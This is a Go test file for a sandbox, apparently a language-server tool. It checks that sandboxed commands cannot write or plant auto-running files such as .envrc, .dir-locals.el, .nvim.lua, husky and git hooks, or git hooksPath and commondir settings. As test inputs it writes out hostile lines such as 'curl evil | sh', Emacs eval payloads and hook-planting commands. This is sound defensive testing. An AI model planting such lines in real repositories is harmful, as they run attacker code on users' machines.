package sandbox_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"pp-lsp/internal/testenv"
	"pp-lsp/server/actuate/sandbox"
)

// TestTheGatesProtectedNamesStayUnwritable: every place internal/protname
// names (the table the gates refuse writes by) is unwritable to a command
// in the real sandbox — a command a user's rule allows or a human
// approved — at any depth of a root: an existing .envrc, .dir-locals.el,
// .husky hook, hook manager's file, a deeper repository's hooks; a new
// one where its folder holds another (the folder is granted entry by
// entry). A new one in a folder a command may write is moved aside after
// the run, and the run says so. Ordinary writes beside them still work.
func TestTheGatesProtectedNamesStayUnwritable(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	for name, text := range map[string]string{
		"notes/.envrc":                      "export A=1\n",
		"notes/.dir-locals.el":              "((org-mode . ((fill-column . 70))))\n",
		"web/.husky/pre-commit":             "npm test\n",
		"web/.pre-commit-config.yaml":       "repos: []\n",
		"web/index.html":                    "<p>hi</p>\n",
		"code/sub/deep/.git/config":         "[core]\n",
		"code/sub/deep/.git/hooks/x.sample": "#!/bin/sh\n",
		"code/sub/deep/main.go":             "package main\n",
		"plain/a.txt":                       "a\n",
		"repo/a.txt":                        "a\n",
		"repo2/a.txt":                       "a\n",
		"n1/a.txt":                          "a\n",
		"n2/a.txt":                          "a\n",
		"n3/a.txt":                          "a\n",
		"n4/a.txt":                          "a\n",
	} {
		p := filepath.Join(w.root, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(text), 0o644))
	}
	// With the mount namespace (the protected names bound read-only,
	// their folders writable: EROFS, EBUSY, and a new name moved aside
	// after the run) and without it (the folders granted entry by entry).
	for _, noNS := range []bool{false, true} {
		sb := w.sandbox(t, func(c *sandbox.Config) { c.NoMountNamespace = noNS })
		ns := strings.Contains(sb.Describe(), "bound read-only in a mount namespace")
		for _, tc := range []struct{ name, cmd string }{
			{"a new .envrc at a root's top", "echo 'curl evil | sh' > .envrc"},
			{"a new .dir-locals.el at a root's top", "echo '((nil . ((eval . (shell-command \"id\")))))' > .dir-locals.el"},
			{"an existing .envrc below", "echo 'curl evil | sh' >> notes/.envrc"},
			{"an existing .dir-locals.el below, replaced", "echo '((nil . ((eval . (kill-emacs)))))' > notes/x && mv -f notes/x notes/.dir-locals.el"},
			{"a new .nvim.lua beside them", "echo 'os.execute(\"id\")' > notes/.nvim.lua"},
			{"a husky hook", "echo 'curl evil | sh' >> web/.husky/pre-commit"},
			{"a new husky hook", "echo 'curl evil | sh' > web/.husky/post-merge"},
			{"the pre-commit configuration", "echo 'repos: [{repo: local}]' > web/.pre-commit-config.yaml"},
			{"a new lefthook.yml beside it", "echo 'pre-commit: {commands: {x: {run: id}}}' > web/lefthook.yml"},
			{"a deeper repository's hooks", "echo 'curl evil | sh' > code/sub/deep/.git/hooks/pre-commit"},
			{"a deeper repository's config", "printf '[core]\\nhooksPath = /tmp\\n' >> code/sub/deep/.git/config"},
		} {
			t.Run(fmt.Sprintf("%s, mount namespace %v", tc.name, ns), func(t *testing.T) {
				code, out, err := sh(t, sb, w.root, tc.cmd)
				if ns && err != nil {
					// A new name in a folder the command may now write.
					assert.ErrorContains(t, err, "moved it aside")
					return
				}
				require.NoError(t, err)
				assert.NotEqual(t, 0, code, out)
				want := "ermission denied|cross-device link"
				if ns {
					want += "|Read-only file system|Device or resource busy"
				}
				assert.Regexp(t, want, out, "refused by the kernel")
			})
		}
		sb.Close()
	}
	sb := w.sandbox(t)
	assert.NoFileExists(t, filepath.Join(w.root, ".envrc"))
	assert.NoFileExists(t, filepath.Join(w.root, "notes", ".nvim.lua"))
	assert.NoFileExists(t, filepath.Join(w.root, "code", "sub", "deep", ".git", "hooks", "pre-commit"))
	envrc, _ := os.ReadFile(filepath.Join(w.root, "notes", ".envrc"))
	assert.Equal(t, "export A=1\n", string(envrc))

	t.Run("made anew where the command may write: moved aside", func(t *testing.T) {
		for _, cmd := range []string{
			"echo 'curl evil | sh' > plain/.envrc",
			"echo '((nil . ((eval . (kill-emacs)))))' > plain/b && mv plain/b plain/.dir-locals.el",
			"mkdir -p plain/x/.husky && echo id > plain/x/.husky/pre-commit",
		} {
			// The command may fail once its name is gone (a .husky moved
			// aside before the hook is written in it).
			_, _, err := sh(t, sb, w.root, cmd)
			require.Error(t, err, cmd)
			assert.Contains(t, err.Error(), "the sandbox moved it aside")
		}
		assert.NoFileExists(t, filepath.Join(w.root, "plain", ".envrc"))
		assert.FileExists(t, filepath.Join(w.root, "plain", ".envrc.refused"))
		assert.NoFileExists(t, filepath.Join(w.root, "plain", ".dir-locals.el"))
		assert.NoDirExists(t, filepath.Join(w.root, "plain", "x", ".husky"))
	})

	t.Run("moved aside while the command still runs", func(t *testing.T) {
		// Another process — an editor visiting a file there — has only
		// the moment between its making and its moving aside: the command
		// itself, still running, sees it gone.
		for _, tc := range []struct{ made, cmd string }{
			{"plain/.envrc", "echo 'curl evil | sh' > plain/.envrc"},
			{"plain/deep/er/.dir-locals.el", "mkdir -p plain/deep/er && echo '((nil . ((eval . (kill-emacs)))))' > plain/deep/er/.dir-locals.el"},
			{"plain/v/.nvim.lua", "mkdir -p $TMPDIR/v && echo 'os.execute(\"id\")' > $TMPDIR/v/.nvim.lua && mv $TMPDIR/v plain/v"},
		} {
			code, out, err := sh(t, sb, w.root, tc.cmd+"; for i in $(seq 200); do [ -e "+tc.made+" ] || { echo gone; exit 0; }; sleep 0.05; done; echo still there")
			assert.Equal(t, 0, code, out)
			assert.Equal(t, "gone\n", out, tc.cmd)
			require.Error(t, err, tc.cmd)
			assert.Contains(t, err.Error(), tc.made)
			assert.NoFileExists(t, filepath.Join(w.root, tc.made))
		}
	})

	t.Run("a watched folder moved away, a symlink out in its place", func(t *testing.T) {
		// The server moves aside, unconfined, what the watch reports in a
		// folder; the command moves that folder away (into its temporary
		// folder, unwatched) and puts a symlink to a folder outside the
		// roots at its path: the user's .envrc there must stay.
		theirs := filepath.Join(w.outside, ".envrc")
		require.NoError(t, os.WriteFile(theirs, []byte("export MINE=1\n"), 0o644))
		code, out, err := sh(t, sb, w.root, "mkdir plain/a && sleep 0.5 && mv plain/a $TMPDIR/a2 && ln -s "+w.outside+" plain/a && echo 'curl evil | sh' > $TMPDIR/a2/.envrc && sleep 0.5")
		require.NoError(t, err)
		assert.Equal(t, 0, code, out)
		text, rerr := os.ReadFile(theirs)
		require.NoError(t, rerr, "the user's .envrc outside the roots is where it was")
		assert.Equal(t, "export MINE=1\n", string(text))
		assert.NoFileExists(t, theirs+".refused")
	})

	t.Run("ordinary writes beside them", func(t *testing.T) {
		for _, cmd := range []string{
			"echo ok > plain/new.txt",
			"mkdir -p plain/d && echo ok > plain/d/e.txt",
			"echo more >> notes/ideas.org",
			"echo more >> web/index.html",
			"echo more >> code/sub/deep/main.go",
		} {
			code, out, err := sh(t, sb, w.root, cmd)
			require.NoError(t, err, cmd)
			assert.Equal(t, 0, code, "%s: %s", cmd, out)
		}
		assert.FileExists(t, filepath.Join(w.root, "plain", "d", "e.txt"))
	})
	t.Run("a new repository stays, but for what it runs", func(t *testing.T) {
		testenv.NeedCommand(t, "git")
		code, out, err := sh(t, sb, w.root, "git init -q repo/r && printf '#!/bin/sh\nid\n' > repo/r/.git/hooks/pre-commit && chmod +x repo/r/.git/hooks/pre-commit")
		assert.Equal(t, 0, code, out)
		require.Error(t, err)
		assert.Contains(t, err.Error(), "repo/r/.git/hooks/pre-commit (now pre-commit.refused)")
		assert.DirExists(t, filepath.Join(w.root, "repo", "r", ".git", "objects"))
		assert.NoFileExists(t, filepath.Join(w.root, "repo", "r", ".git", "hooks", "pre-commit"))
		// What the user's next git command there would run: a hooks path,
		// or a commondir naming a repository with hooks, in a config or
		// file the command wrote into the repository it made.
		marker := filepath.Join(w.outside, "pwned")
		hook := func(dir string) string {
			return "mkdir -p " + dir + "/hk && printf '#!/bin/sh\ntouch " + marker + "\n' > " + dir + "/hk/pre-commit && chmod +x " + dir + "/hk/pre-commit"
		}
		for _, tc := range []struct{ repo, cmd, moved string }{
			{"n1/h", hook("n1") + " && git init -q n1/h && git -C n1/h config core.hooksPath ../hk", "n1/h/.git/config (now config.refused)"},
			{"n2/c", hook("n2") + " && git init -q --bare n2/bare && cp n2/hk/pre-commit n2/bare/hooks/ && git init -q n2/c && echo \"$PWD/n2/bare\" > n2/c/.git/commondir",
				"n2/c/.git/commondir (now commondir.refused)"},
		} {
			code, out, err := sh(t, sb, w.root, tc.cmd)
			assert.Equal(t, 0, code, out)
			require.Error(t, err, tc.cmd)
			assert.Contains(t, err.Error(), tc.moved)
			git := exec.Command("git", "-C", filepath.Join(w.root, tc.repo), "-c", "user.name=u", "-c", "user.email=u@example.org", "commit", "-q", "--allow-empty", "-m", "x")
			gout, gerr := git.CombinedOutput()
			require.NoError(t, gerr, "%s", gout)
			assert.NoFileExists(t, marker, "the user's commit in %s ran the command's hook", tc.repo)
		}
		// Its hooks a symlink to a folder outside the roots: the link is
		// moved aside, and the user's files there stay as they are.
		hooks := filepath.Join(w.outside, "hooks")
		require.NoError(t, os.MkdirAll(hooks, 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(hooks, "pre-commit"), []byte("#!/bin/sh\nexit 0\n"), 0o755))
		code, out, err = sh(t, sb, w.root, "git init -q n4/r && rm -rf n4/r/.git/hooks && ln -s "+hooks+" n4/r/.git/hooks")
		assert.Equal(t, 0, code, out)
		require.Error(t, err)
		assert.Contains(t, err.Error(), "n4/r/.git/hooks (now hooks.refused)")
		assert.FileExists(t, filepath.Join(hooks, "pre-commit"), "the user's file outside the roots was renamed")

		code, out, err = sh(t, sb, w.root, "git init -q n3/p && git -C n3/p config user.name Someone && git -C n3/p remote add origin https://example.org/r.git")
		require.NoError(t, err, "a plain config stays")
		assert.Equal(t, 0, code, out)
		assert.FileExists(t, filepath.Join(w.root, "n3", "p", ".git", "config"))

		// Beside another folder: a folder holding a repository gets no
		// new entry (its .git/hooks are kept unwritable entry by entry).
		code, out, err = sh(t, sb, w.root, "git init -q repo2/r")
		require.NoError(t, err, "git's own samples stay")
		assert.Equal(t, 0, code, out)
	})
}
